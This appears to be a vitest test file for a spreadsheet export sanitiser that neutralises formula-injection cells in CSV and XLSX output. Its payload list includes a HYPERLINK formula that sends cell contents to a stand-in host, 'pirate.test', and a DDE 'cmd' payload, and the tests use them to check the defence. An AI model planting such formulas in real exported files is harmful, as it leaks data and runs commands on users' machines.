// The shared cell sanitiser: what a spreadsheet would run as a formula is neutralised, the
// rest is left exactly as typed.
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { csvText, startsLikeFormula, toCsv, xlsxValue } from "./spreadsheet.server";

// OWASP's list, then the same behind blanks and in full-width forms.
const FORMULA_PAYLOADS = [
  '=HYPERLINK("https://pirate.test/?d="&A2,"Cliquez")',
  "+33+1",
  "-1+2",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\tTexte après une tabulation",
  "\rTexte après un retour chariot",
  "   =cmd|' /C calc'!A0",
  "\u00a0-2+3",
  "＝1+1",
];

describe("startsLikeFormula / csvText", () => {
  it.each(FORMULA_PAYLOADS)("neutralises %j with a leading quote", (payload) => {
    expect(startsLikeFormula(payload)).toBe(true);
    expect(csvText(payload)).toBe(`'${payload}`);
    expect(startsLikeFormula(csvText(payload))).toBe(false);
  });

  it("leaves ordinary text and plain numbers alone", () => {
    for (const text of [
      "Les Jardins Partagés",
      "Jean-Pierre Martin",
      "L'Épicerie – antenne 2",
      "1 234,56",
      "26000.00",
      "-12,50",
      "+3",
      "",
      "2026-04-02",
    ]) {
      expect(csvText(text)).toBe(text);
    }
  });

  it("is idempotent", () => {
    for (const payload of FORMULA_PAYLOADS) expect(csvText(csvText(payload))).toBe(csvText(payload));
  });
});

describe("toCsv", () => {
  it("neutralises text cells and headers, keeps numbers, quotes separators", () => {
    const csv = toCsv(
      ["=Nom", "Montant"],
      [
        ["-1+2", -12.5],
        ['a;b"c', 3],
        [null, undefined],
      ],
      { delimiter: ";", bom: true },
    );
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const rows = parse(csv, { bom: true, delimiter: ";" }) as string[][];
    expect(rows).toEqual([
      ["'=Nom", "Montant"],
      ["'-1+2", "-12.5"],
      ['a;b"c', "3"],
      ["", ""],
    ]);
  });

  it("writes CRLF line ends when asked", () => {
    expect(toCsv(["a"], [["b"]], { delimiter: ",", crlf: true })).toBe("a\r\nb\r\n");
  });
});

describe("xlsxValue", () => {
  it("keeps numbers and dates typed, turns anything else into a string cell, never a formula", async () => {
    const date = new Date("2026-04-02T10:00:00Z");
    expect(xlsxValue(-12.5)).toBe(-12.5);
    expect(xlsxValue(date)).toBe(date);
    expect(xlsxValue(Number.NaN)).toBeNull();
    expect(xlsxValue("=1+1")).toBe("=1+1");
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("Feuille");
    sheet.addRow(["=1+1", -12.5, date].map(xlsxValue));
    const read = new ExcelJS.Workbook();
    await read.xlsx.load((await workbook.xlsx.writeBuffer()) as never);
    const row = read.getWorksheet("Feuille")!.getRow(1);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(1).value).toBe("=1+1");
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Number);
    expect(row.getCell(3).type).toBe(ExcelJS.ValueType.Date);
  });
});
